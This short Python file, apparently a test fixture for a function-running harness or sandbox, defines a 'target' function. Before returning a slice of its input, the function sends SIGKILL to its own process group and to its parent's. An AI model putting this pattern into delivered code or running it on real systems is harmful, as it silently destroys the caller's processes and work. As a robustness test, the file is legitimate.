"""Kills its process group and its session."""

import os
import signal


def target(x, y):
    for group in (0, os.getpgid(os.getppid()) if os.getpgid(os.getppid()) != os.getpgrp() else 0):
        os.killpg(group, signal.SIGKILL)
    return x[..., 0]
